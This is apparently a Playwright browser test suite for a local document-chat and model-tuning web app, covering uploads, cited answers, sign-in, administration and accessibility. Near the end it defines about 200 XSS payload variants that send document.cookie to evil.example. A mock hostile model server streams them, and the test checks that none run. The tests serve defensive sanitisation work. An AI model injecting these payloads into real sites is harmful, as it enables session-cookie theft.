"""The page, as a person uses it: a real browser, a real server, real weights, real documents."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import httpx
import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, TimeoutError, expect

from graft.objects import new_id
from graft.server import conversations
from graft.workspace import Workspace
from tests.browser import browser as opened_browser
from tests.browser import server
from tests.conftest import HANDBOOK

pytestmark = [pytest.mark.slow, pytest.mark.timeout(300)]

TRAVEL = "# Travel\n\nA hotel may cost at most 140 EUR a night. Bicycles may be taken on the train.\n"
QUESTION = "What may a hotel cost at most?"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with opened_browser() as opened:
        yield opened


class Watched:
    """A page whose every request, error and dialog is seen."""

    def __init__(self, browser: Browser, root: str, **options: Any) -> None:
        self.context = browser.new_context(**options)
        self.page: Page = self.context.new_page()
        self.root, self.elsewhere, self.errors = root, list[str](), list[str]()
        self.page.on("request", lambda request: self._seen(request.url))
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("dialog", lambda dialog: (self.errors.append(f"dialog {dialog.message}"), dialog.dismiss()))

    def _seen(self, url: str) -> None:
        if not url.startswith((self.root, "data:", self.root.replace("http", "ws"))):
            self.elsewhere.append(url)

    def close(self) -> None:
        self.context.close()
        assert self.elsewhere == [] and self.errors == []


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory, models: Path) -> Path:
    folder = tmp_path_factory.mktemp("page")
    (folder / "travel.md").write_text(TRAVEL)
    with Workspace(folder / "home") as workspace:
        added = workspace.add(
            [str(folder / "travel.md"), str(HANDBOOK / "customers" / "service-level-agreement.pdf")]
        )
        assert not added.failed
    return folder / "home"


@pytest.fixture(scope="module")
def root(home: Path) -> Iterator[str]:
    with server(home) as url:
        yield url


@pytest.fixture
def watched(browser: Browser, root: str) -> Iterator[Watched]:
    opened = Watched(browser, root)
    yield opened
    opened.close()


def ask(page: Page, question: str) -> None:
    """Ask, and wait for the answer with its proof."""
    answers = page.locator(".message.graft .figures")
    before = answers.count()
    page.get_by_label("Your question").fill(question)
    page.keyboard.press("Enter")
    expect(answers).to_have_count(before + 1, timeout=60_000)


def test_from_nothing_to_a_cited_answer_in_five_actions(browser: Browser, tmp_path: Path, models: Path) -> None:
    (tmp_path / "travel.md").write_text(TRAVEL)
    with Workspace(tmp_path / "home"):
        pass
    with server(tmp_path / "home") as root:
        opened = Watched(browser, root)
        page = opened.page
        page.goto(f"{root}/")
        expect(page.get_by_text("There are no documents yet")).to_be_visible()
        page.get_by_role("link", name="Add documents").click()  # 1
        page.locator("input[type=file]").set_input_files(tmp_path / "travel.md")  # 2
        expect(page.locator(".lines .told")).to_have_text("1 passages", timeout=60_000)
        page.get_by_role("link", name="Chat").click()  # 3
        ask(page, QUESTION)  # 4
        expect(page.locator(".answer")).to_contain_text("140")
        page.locator(".chip.supported").first.click()  # 5
        expect(page.locator(".source .marked")).to_contain_text("140 EUR")
        opened.close()


def test_a_conversation_is_kept_renamed_found_exported_and_deleted(watched: Watched) -> None:
    page = watched.page
    page.goto(f"{watched.root}/app/")
    ask(page, QUESTION)
    page.reload()
    page.locator(".history li .title").first.click()
    expect(page.locator(".message.you .words")).to_have_text(QUESTION)
    expect(page.locator(".message.graft .chip")).not_to_have_count(0)

    page.get_by_label("More").first.click()
    page.get_by_text("Rename", exact=True).click()
    page.get_by_label("Name", exact=True).fill("Costs of travel")
    page.get_by_role("button", name="Rename").click()
    expect(page.locator(".history li").first).to_contain_text("Costs of travel")
    page.get_by_label("Search conversations").fill("nothing like it")
    expect(page.get_by_text("None fits.")).to_be_visible()
    page.get_by_label("Search conversations").fill("TRAVEL")
    expect(page.locator(".history li")).to_have_count(1)

    page.get_by_label("More").first.click()
    with page.expect_download() as download:
        page.get_by_text("Export", exact=True).click()
    text = Path(download.value.path()).read_text()
    assert QUESTION in text and "140" in text and "travel.md" in text

    page.get_by_label("More").first.click()
    page.get_by_text("Delete", exact=True).click()
    page.get_by_role("button", name="Delete").click()
    expect(page.locator(".history .title")).to_have_count(0)
    expect(page.locator(".message")).to_have_count(0)


def test_a_question_is_put_otherwise_and_an_answer_made_again(watched: Watched) -> None:
    page = watched.page
    page.goto(f"{watched.root}/app/")
    ask(page, QUESTION)
    ask(page, "May bicycles be taken on the train?")
    page.get_by_label("Ask again").click()
    expect(page.locator(".message.graft .figures")).to_have_count(1)
    expect(page.locator(".message.graft .figures")).to_have_count(2, timeout=60_000)
    page.locator(".message.you").first.get_by_role("button").click()
    expect(page.locator(".message")).to_have_count(0)
    expect(page.get_by_label("Your question")).to_have_value(QUESTION)


def test_an_answer_is_stopped_and_the_next_is_made(watched: Watched) -> None:
    page = watched.page
    page.goto(f"{watched.root}/app/")
    choose(page, "Answer from", "no documents")
    page.get_by_label("Your question").fill("Write a very long story about a bicycle that travels by train.")
    page.keyboard.press("Enter")
    expect(page.locator(".draft")).to_contain_text(re.compile(r"\w+ \w+ \w+"), timeout=60_000)
    page.get_by_role("button", name="Stop").click()
    expect(page.locator(".draft")).to_have_text("Stopped.")
    choose(page, "Answer from", "all documents")
    ask(page, QUESTION)


def test_the_page_of_a_pdf_is_shown_with_the_words_marked(watched: Watched) -> None:
    page = watched.page
    page.goto(f"{watched.root}/app/")
    ask(page, "Within how many hours is service restored for P1 cases in the Premier tier?")
    page.locator(".chip, .near").first.click()
    sheet = page.locator(".source img.sheet")
    expect(sheet).to_be_visible()
    assert sheet.evaluate("image => image.naturalWidth") > 500
    page.keyboard.press("Escape")
    page.get_by_label("Close the source").or_(page.locator(".source:not(.open)")).first.wait_for(state="attached")


def test_the_keyboard_alone(watched: Watched) -> None:
    page = watched.page
    page.goto(f"{watched.root}/app/")
    ask(page, QUESTION)
    page.locator(".messages").focus()
    page.keyboard.press("ArrowRight")
    expect(page.locator(".source .marked")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator(".source.open")).to_have_count(0)
    page.keyboard.press("/")
    expect(page.get_by_label("Your question")).to_be_focused()


def answered(text: str, *citations: dict[str, Any], mode: str = "generated") -> dict[str, Any]:
    """An assistant's item as the page keeps it."""
    latency = {"retrieve": 1.0, "first_token": 1.0, "verify": 1.0, "total": 3.0}
    proof = {"mode": mode, "reason": "", "citations": list(citations), "hits": [], "latency_ms": latency}
    content = [{"type": "output_text", "text": text, "annotations": [], "logprobs": []}]
    item = {"id": new_id("msg_"), "type": "message", "status": "completed", "role": "assistant", "content": content}
    return {**item, "graft": {**proof, "model": "m", "usage": {}, "question": text}}


def asked(text: str) -> dict[str, Any]:
    content = [{"type": "input_text", "text": text}]
    return {"id": new_id("msg_"), "type": "message", "status": "completed", "role": "user", "content": content}


def put(home: Path, title: str, *items: dict[str, Any]) -> None:
    """A conversation in the workspace, as if it had been held."""
    with Workspace(home) as workspace:
        made = workspace.objects.put(
            conversations.CONVERSATION,
            {"metadata": {"title": title}},
            id=new_id("conv_"),
            owners=workspace.owns,
        )
        for first in range(0, len(items), 20):
            conversations.append(workspace, made.id, list(items[first : first + 20]))


def test_statements_that_fail_and_sources_that_changed_are_told_apart(
    browser: Browser, tmp_path: Path, models: Path
) -> None:
    file = tmp_path / "travel.md"
    file.write_text(TRAVEL)
    home = tmp_path / "home"
    with Workspace(home) as workspace:
        workspace.add([str(file)])
        (document,) = workspace.documents()
        file.write_text(TRAVEL.replace("140", "150"))
        workspace.add([str(file)])
    at = TRAVEL.index("A hotel")
    range = {
        "document": "travel.md",
        "document_id": document.id,
        "version": 1,
        "start": at,
        "end": at + 41,
        "page": None,
    }
    claim = {"claim": "A hotel may cost 190 EUR.", "support": 0.4, "missing": ["190"], "opposed": False, **range}
    none = dict.fromkeys(range)
    put(
        home,
        "checked",
        asked(QUESTION),
        answered(
            "A [1] B [partly supported] [2] C [unsupported] [3]",
            {**claim, "verdict": "supported", "missing": []},
            {**claim, "verdict": "partly"},
            {**claim, **none, "verdict": "unsupported"},
        ),
    )
    with server(home) as root:
        opened = Watched(browser, root)
        page = opened.page
        page.goto(f"{root}/app/")
        page.get_by_text("checked").click()
        for verdict in ("supported", "partly", "unsupported"):
            expect(page.locator(f".chip.{verdict}")).to_have_count(1)
        page.locator(".chip.partly").click()
        expect(page.locator(".source")).to_contain_text("This document has changed since")
        expect(page.locator(".source")).to_contain_text("Not in the source: 190")
        expect(page.locator(".source .marked")).to_contain_text("140 EUR")
        page.locator(".chip.unsupported").click()
        expect(page.locator(".source")).to_contain_text("No passage of your documents speaks of this")
        opened.close()


def test_documents_come_in_fail_with_their_fix_and_leave(browser: Browser, tmp_path: Path, models: Path) -> None:
    home = tmp_path / "home"
    with Workspace(home):
        pass
    (tmp_path / "good.md").write_text(TRAVEL)
    (tmp_path / "bad.pdf").write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 20)
    with server(home) as root:
        opened = Watched(browser, root)
        page = opened.page
        page.goto(f"{root}/app/documents")
        page.locator("input[type=file]").set_input_files([tmp_path / "good.md", tmp_path / "bad.pdf"])
        good = page.locator(".lines li", has_text="good.md")
        bad = page.locator(".lines li", has_text="bad.pdf")
        expect(good.locator(".told")).to_have_text("1 passages", timeout=60_000)
        expect(bad).to_have_class(re.compile("bad"), timeout=60_000)
        assert " · " in bad.locator(".told").inner_text(), "a failure without its fix"
        bad.get_by_role("button", name="Try again").click()
        expect(bad.get_by_role("button", name="Try again")).to_be_visible(timeout=60_000)

        page.get_by_label("A page on the web").fill("not a url")
        page.get_by_role("button", name="Add", exact=True).click()
        expect(page.locator(".lines")).to_contain_text("this is no address of a page")

        row = page.locator(".shelf-table tbody tr", has_text="good.md")
        page.get_by_label("Filter by name").fill("other")
        expect(page.get_by_text("None has such a name.")).to_be_visible()
        page.get_by_label("Filter by name").fill("GOOD")
        row.get_by_role("button").click()
        expect(page.locator(".source")).to_contain_text("Bicycles may be taken")
        page.get_by_role("button", name="Remove").click()
        page.get_by_role("button", name="Undo").click()
        expect(row).to_be_visible()
        row.get_by_role("button").click()
        page.get_by_role("button", name="Remove").click()
        expect(page.locator(".lines")).to_contain_text("removed; answers that cite it say so", timeout=30_000)
        opened.close()
    with Workspace(home) as workspace:
        assert workspace.documents() == []
    told = [json.loads(line) for line in (home / "audit.jsonl").read_text().splitlines()]
    assert {"page: add", "page: remove"} <= {one["what"] for one in told}


def test_who_signs_in_sees_their_own_and_a_key_that_is_revoked_ends_it(
    browser: Browser, tmp_path: Path, models: Path
) -> None:
    home = tmp_path / "home"
    (tmp_path / "travel.md").write_text(TRAVEL)
    with Workspace(home) as workspace:
        people = workspace.identities
        for name, role in (("ana", "editor"), ("rob", "reader")):
            people.create_user(name, role=role)
        keys = {name: people.create_key(name, user=name)[1] for name in ("ana", "rob")}
        workspace.acting_as(["user:ana"]).add([str(tmp_path / "travel.md")])
        with server(home) as root:
            seen = {}
            for name in ("ana", "rob"):
                opened = seen[name] = Watched(browser, root)
                page = opened.page
                page.goto(f"{root}/app/documents")
                expect(page).to_have_url(re.compile("/app/sign-in"))
                page.get_by_label("Your key").fill("graft-wrong")
                page.get_by_role("button", name="Sign in").click()
                expect(page.get_by_role("alert")).to_contain_text("not known here")
                page.get_by_label("Your key").fill(keys[name])
                page.get_by_role("button", name="Sign in").click()
                expect(page.get_by_role("heading", name="Documents")).to_be_visible()
            expect(seen["ana"].page.locator(".shelf-table")).to_contain_text("travel.md")
            expect(seen["rob"].page.get_by_text("Nothing here yet")).to_be_visible()
            expect(seen["rob"].page.locator("input[type=file]")).to_have_count(0)
            cookie = seen["ana"].context.cookies()[0]
            assert cookie["httpOnly"] and cookie["sameSite"] == "Lax" and keys["ana"] not in str(cookie)

            people.revoke_key("ana")
            seen["ana"].page.get_by_label("Filter by name").fill("x")
            seen["ana"].page.get_by_role("link", name="Chat").click()
            expect(seen["ana"].page).to_have_url(re.compile("/app/sign-in"))

            page = seen["rob"].page
            page.get_by_label("Who you are").click()
            page.get_by_text("Sign out").click()
            expect(page).to_have_url(re.compile("/app/sign-in"))
            page.goto(f"{root}/app/")
            expect(page).to_have_url(re.compile("/app/sign-in"))
            for opened in seen.values():
                opened.close()


def test_no_other_sites_page_opens_a_socket_and_nothing_may_be_loaded_from_elsewhere(root: str) -> None:
    upgrade = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13"}
    upgrade["Sec-WebSocket-Key"] = "dGhlIHNhbXBsZSBub25jZQ=="
    for headers, status in (({"Origin": "https://evil.example"}, 403), ({"Host": "evil.example"}, 403)):
        asked = httpx.get(
            f"{root}/app/_nicegui_ws/socket.io/?EIO=4&transport=websocket", headers={**upgrade, **headers}
        )
        assert asked.status_code == status, asked.status_code
    policy = httpx.get(f"{root}/app/").headers["content-security-policy"]
    assert "default-src 'none'" in policy and "http" not in policy and "*" not in policy


def test_from_a_table_to_a_tuned_model_beside_its_base(browser: Browser, tmp_path: Path, models: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / "graft.toml").write_text("[tuning]\nepochs = 1\nbatch_size = 4\n")
    said = {
        "refund": "give back the money for",
        "delivery": "where is the parcel of",
        "account": "close the account of",
    }
    rows = [f"{said[kind]} customer {n}-{kind[0]};{kind}" for n in range(8) for kind in said]
    (tmp_path / "table.csv").write_text("customer_says;goes_to\n" + "\n".join(rows) + "\nonly one cell\n")
    with server(home) as root:
        opened = Watched(browser, root)
        page = opened.page
        page.goto(f"{root}/app/tune")
        page.locator("input[type=file]").set_input_files(tmp_path / "table.csv")
        page.get_by_role("button", name="Use these columns").click(timeout=60_000)
        broken = page.locator(".finding.error")
        expect(broken).to_contain_text("line 26: 1 cells where the header names 2", timeout=60_000)
        page.get_by_role("button", name="Look ahead").click()
        expect(page.locator(".preview .finding.error")).to_contain_text("lines that are no examples", timeout=60_000)

        broken.get_by_role("button", name="Mend").click()
        expect(page.get_by_label("The line")).to_have_value("only one cell")
        page.get_by_label("The line").fill("give back the money for everything;refund")
        page.get_by_role("button", name="Keep this").click()
        expect(broken).to_have_count(0, timeout=60_000)

        page.get_by_role("button", name="Look ahead").click()
        expect(page.locator(".token.learnt").first).to_contain_text(re.compile("ref|del|acc"), timeout=90_000)
        page.get_by_role("button", name="Begin training").click()
        expect(page.locator(".training canvas")).to_be_visible()
        page.reload()  # it goes on, and the page finds it again
        expect(page.locator(".result .shelf-table")).to_contain_text("tuned", timeout=200_000)
        expect(page.locator(".result")).to_contain_text(re.compile("than its base"))
        with page.expect_download(timeout=120_000) as download:
            page.get_by_role("button", name="Take it away as GGUF").click()
        assert Path(download.value.path()).read_bytes()[:4] == b"GGUF"
        page.get_by_role("link", name="Ask it in the chat").click()
        page.get_by_label("Model").click()
        expect(page.get_by_role("option", name=re.compile("ft-smollm2-135m-mine"))).not_to_have_count(0)
        opened.close()


def choose(page: Page, label: str, *options: str | re.Pattern[str]) -> None:
    """Open a menu, which may have to wait until another has shut, and press some of what it offers."""
    for _ in range(5):
        page.get_by_label(label, exact=True).click()
        try:
            page.get_by_role("option", name=options[0], exact=True).wait_for(timeout=1500)
            break
        except TimeoutError:
            continue
    for option in options:
        page.get_by_role("option", name=option, exact=True).click()
    if len(options) > 1:
        page.keyboard.press("Escape")
    expect(page.get_by_role("option")).to_have_count(0)


def test_which_way_is_best_is_asked_and_told(browser: Browser, tmp_path: Path, models: Path) -> None:
    home = tmp_path / "home"
    (tmp_path / "travel.md").write_text(TRAVEL)
    asked = [
        {"id": "a", "question": QUESTION, "answers": ["140 EUR", "140"], "kind": "short"},
        {"id": "b", "question": "What may be taken on the train?", "answers": ["Bicycles"], "kind": "short"},
        {"id": "c", "question": "What does lunch cost?", "answers": [], "kind": "unanswerable"},
    ]
    (tmp_path / "questions.jsonl").write_text("".join(json.dumps(one) + "\n" for one in asked))
    with Workspace(home) as workspace:
        workspace.add([str(tmp_path / "travel.md")])
    with server(home) as root:
        opened = Watched(browser, root)
        page = opened.page
        page.goto(f"{root}/app/compare")
        page.locator("input[type=file]").first.set_input_files(tmp_path / "questions.jsonl")
        expect(page.get_by_text("questions.jsonl: sent")).to_be_visible()
        page.get_by_role("button", name="What would it take?").click()
        expect(page.locator(".preview")).to_contain_text("base, rag, best-sentence, always-first", timeout=90_000)
        page.get_by_role("button", name="Begin").click()
        expect(page.locator(".verdict-first")).to_be_visible(timeout=200_000)
        table = page.locator(".result .shelf-table")
        for way in ("base", "rag", "best-sentence", "always-first"):
            expect(table).to_contain_text(way)
        expect(page.locator(".result canvas")).to_be_visible()
        with page.expect_popup() as report:
            page.get_by_role("link", name="The whole report").click()
        expect(report.value.locator("h1")).to_be_visible()

        page.get_by_role("link", name="Advise").click()
        said = page.locator(".said .big")
        expect(said).to_contain_text("Retrieve")
        choose(page, "knowledge", "never")
        choose(page, "teach", "format", "style", "skill")
        expect(said).to_contain_text(re.compile("[Tt]une"))
        choose(page, "Measured by", re.compile("questions.jsonl"))
        expect(page.locator(".said .shelf-table").first).to_contain_text("always-first")
        opened.close()


def test_an_administrator_lets_people_in_and_out(browser: Browser, tmp_path: Path, models: Path) -> None:
    home = tmp_path / "home"
    with Workspace(home) as workspace:
        workspace.identities.create_user("eva", role="admin")
        workspace.identities.create_user("rob", role="reader")
        keys = {who: workspace.identities.create_key(who, user=who, role="admin")[1] for who in ("eva", "rob")}
        with server(home) as root:
            opened = Watched(browser, root)
            page = opened.page
            page.goto(f"{root}/app/server")
            page.get_by_label("Your key").fill(keys["eva"])
            page.get_by_role("button", name="Sign in").click()
            expect(page.locator("form.choices")).to_have_count(2)
            people_form, keys_form = page.locator("form.choices").all()
            people_form.get_by_label("Name").fill("ana")
            people_form.get_by_label("Groups").fill("hr, legal")
            people_form.get_by_label("Dollars a month").fill("much")
            people_form.get_by_role("button").click()
            expect(page.get_by_text("this cannot be: ana, reader")).to_be_visible()
            people_form.get_by_label("Dollars a month").fill("5")
            people_form.get_by_role("button").click()
            expect(page.get_by_role("row", name=re.compile("ana.*hr, legal.*5.00"))).to_be_visible()
            keys_form.get_by_label("Name").fill("ana-1")
            keys_form.get_by_label("For whom").fill("ana")
            keys_form.get_by_label("Days").fill("30")
            keys_form.get_by_role("button").click()
            secret = page.locator(".secret")
            expect(secret).to_contain_text("graft-")
            theirs = secret.inner_text()
            assert httpx.get(f"{root}/v1/models", headers={"Authorization": f"Bearer {theirs}"}).status_code == 200
            page.get_by_label("Revoke ana-1").click()
            page.get_by_role("button", name="Yes").click()
            expect(page.get_by_label("Revoke ana-1")).to_have_count(0)
            assert httpx.get(f"{root}/v1/models", headers={"Authorization": f"Bearer {theirs}"}).status_code == 401
            page.get_by_label("Remove ana").click()
            page.get_by_role("button", name="Yes").click()
            expect(page.get_by_label("Remove ana")).to_have_count(0)
            page.get_by_role("button", name="Check everything").click()
            expect(page.get_by_text("are whole.")).to_be_visible(timeout=60_000)
            done = (home / "audit.jsonl").read_text() if (home / "audit.jsonl").exists() else ""
            assert "users remove" in done and theirs not in done
            opened.close()

            other = Watched(browser, root)
            other.page.goto(f"{root}/app/server")
            other.page.get_by_label("Your key").fill(keys["rob"])
            other.page.get_by_role("button", name="Sign in").click()
            expect(other.page.get_by_text("This is for administrators")).to_be_visible()
            expect(other.page.get_by_role("link", name="Server")).to_have_count(0)
            other.close()


RUN = "window.pwned = 1; fetch('https://evil.example/' + document.cookie)"
ATTACKS = tuple(
    form.replace("RUN", RUN)
    for form in (
        "<script>RUN</script>",
        '<img src=x onerror="RUN">',
        '<svg onload="RUN"></svg>',
        "<svg><script>RUN</script></svg>",
        '<iframe srcdoc="<script>RUN</script>"></iframe>',
        '<iframe src="javascript:RUN"></iframe>',
        '<details open ontoggle="RUN">x</details>',
        '<video><source onerror="RUN"></video>',
        '<input autofocus onfocus="RUN">',
        '<body onload="RUN">',
        '<marquee onstart="RUN">x</marquee>',
        '<object data="https://evil.example/o"></object>',
        '<embed src="https://evil.example/e">',
        '<link rel=stylesheet href="https://evil.example/s.css">',
        "<style>@import 'https://evil.example/i.css'; * { background: url(https://evil.example/b) }</style>",
        '<base href="https://evil.example/">',
        '<meta http-equiv=refresh content="0;url=https://evil.example/">',
        '<form action="https://evil.example/"><input type=submit></form>',
        '<a href="javascript:RUN">press</a>',
        "![picture](https://evil.example/p.png)",
        "[press](javascript:RUN)",
        '{{ constructor.constructor("RUN")() }}',
        '<div v-html="\'<img src=x onerror=RUN>\'" @click="RUN"></div>',
        '<math href="javascript:RUN">x</math>',
        "<template><img src=https://evil.example/t></template>",
    )
)
WRAPPED = tuple(
    wrap.replace("ATTACK", attack)
    for attack in ATTACKS
    for wrap in (
        "ATTACK",
        "\"'>ATTACK",
        "</textarea></title></style>ATTACK",
        "--> ATTACK <!--",
        "**ATTACK**",
        "```html\nATTACK\n```",
        "${ATTACK}",
        "\u202eATTACK\u0000",
    )
)
INERT = (
    "script, img, svg, iframe, object, embed, link, style, base, meta, form, a, video, input, math, marquee, details"
)


def nothing_ran(page: Page, *within: str) -> None:
    assert page.evaluate("window.pwned") is None
    for place in within:
        found = page.locator(place).locator(INERT)
        assert found.count() == 0, (place, found.first.evaluate("one => one.outerHTML"))


class Hostile(BaseHTTPRequestHandler):
    """An OpenAI-compatible service that streams attacks."""

    protocol_version = "HTTP/1.1"
    pieces: ClassVar[tuple[str, ...]] = ()

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Connection", "close")
        self.end_headers()
        chunk = {"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "x"}
        for number, piece in enumerate((*self.pieces, None)):
            delta = {} if piece is None else {"content": piece, **({"role": "assistant"} if not number else {})}
            choice = {"index": 0, "delta": delta, "finish_reason": "stop" if piece is None else None}
            self.wfile.write(f"data: {json.dumps({**chunk, 'choices': [choice]})}\n\n".encode())
            self.wfile.flush()
        self.wfile.write(b"data: [DONE]\n\n")
        self.close_connection = True

    def log_message(self, *args: object) -> None:
        pass


def test_two_hundred_attacks_are_words(browser: Browser, tmp_path: Path, models: Path) -> None:
    assert len(WRAPPED) == 200
    Hostile.pieces = tuple(f"{attack}\n" for attack in WRAPPED)
    service = ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    threading.Thread(target=service.serve_forever, daemon=True).start()
    home, text = tmp_path / "home", "\n\n".join(WRAPPED)
    folder = tmp_path / "documents"
    folder.mkdir()
    for number, attack in enumerate(ATTACKS):
        name = re.sub(r"[/\x00]", "_", attack)[:100]
        (folder / f"{number} {name}.txt").write_text(f"The notice period of case {number} is two weeks. {attack}")
    with Workspace(home) as workspace:
        assert not workspace.add([str(folder)]).failed
        found = workspace.documents()[0]
        workspace.add_hosted_model(
            "hostile", "litellm/openai/hostile", api_base=f"http://127.0.0.1:{service.server_port}/v1"
        )
        whole = {"document_id": found.id, "version": found.version, "start": 0, "end": found.characters, "page": None}
    cited = [
        {"claim": attack, "document": attack, "verdict": "partly", "missing": [attack], "opposed": True, **whole}
        for attack in WRAPPED[:30]
    ]
    numbers = "".join(f" [{number}]" for number in range(1, 31))
    for first in range(0, 200, 20):
        some = WRAPPED[first : first + 20]
        put(home, some[0][:80], *(turn for one in some for turn in (asked(one), answered(f"{one}{numbers}", *cited))))
    with server(home, OPENAI_API_KEY="x") as root:
        opened = Watched(browser, root)
        page = opened.page
        page.goto(f"{root}/app/")
        titles = page.locator(".history li .title")
        expect(titles).to_have_count(10)
        for number in range(10):
            titles.nth(number).click()
            expect(page.locator(".message")).to_have_count(30)
            page.get_by_role("button", name="Earlier messages").click()
            expect(page.locator(".message")).to_have_count(40)
            page.locator(".chip.partly").last.click()
            expect(page.locator(".source .marked")).to_contain_text("The notice period")
            nothing_ran(page, ".messages", ".history li .title", ".source .text", ".source .verdict")

        page.get_by_role("button", name="New conversation").click()
        choose(page, "Model", re.compile("hostile"))
        page.get_by_label("Answer from").click()
        page.get_by_role("option", name="no documents").click()
        ask(page, text[:15_000])
        expect(page.locator(".message.graft .words").first).to_contain_text("onerror")
        nothing_ran(page, ".messages")
        page.get_by_label("Answer from").click()
        page.get_by_role("option", name="all documents").click()
        ask(page, "What is the notice period of case 3?")
        nothing_ran(page, ".messages")

        page.goto(f"{root}/app/documents")
        expect(page.locator(".shelf-table tbody tr")).to_have_count(25)
        for number in range(0, 25, 5):
            page.locator(".shelf-table .name").nth(number).click()
            expect(page.locator(".source .text")).to_contain_text("The notice period")
            nothing_ran(page, ".shelf-table tbody", ".source .text", ".source .head")
        opened.close()
    service.shutdown()
    service.server_close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nothing_serious_stands_in_the_way_of_anybody(
    browser: Browser, root: str, scheme: Any, tmp_path: Path
) -> None:
    opened = Watched(browser, root, color_scheme=scheme, viewport={"width": 360, "height": 740})
    page = opened.page
    for path in (
        "/app/",
        "/app/documents",
        "/app/tune",
        "/app/compare",
        "/app/advise",
        "/app/server",
        "/app/sign-in",
    ):
        page.goto(root + path)
        page.wait_for_load_state("networkidle")
        if path == "/app/":
            ask(page, QUESTION)
            page.locator(".chip").first.click()
            expect(page.locator(".source .marked")).to_be_visible()
        grave = [
            (one["id"], [node["target"] for node in one["nodes"]])
            for one in Axe().run(page).response["violations"]
            if one["impact"] in ("serious", "critical")
        ]
        assert grave == [], (path, scheme)
        assert page.evaluate("document.documentElement.scrollWidth") <= 360, f"{path} is wider than the screen"
    opened.close()
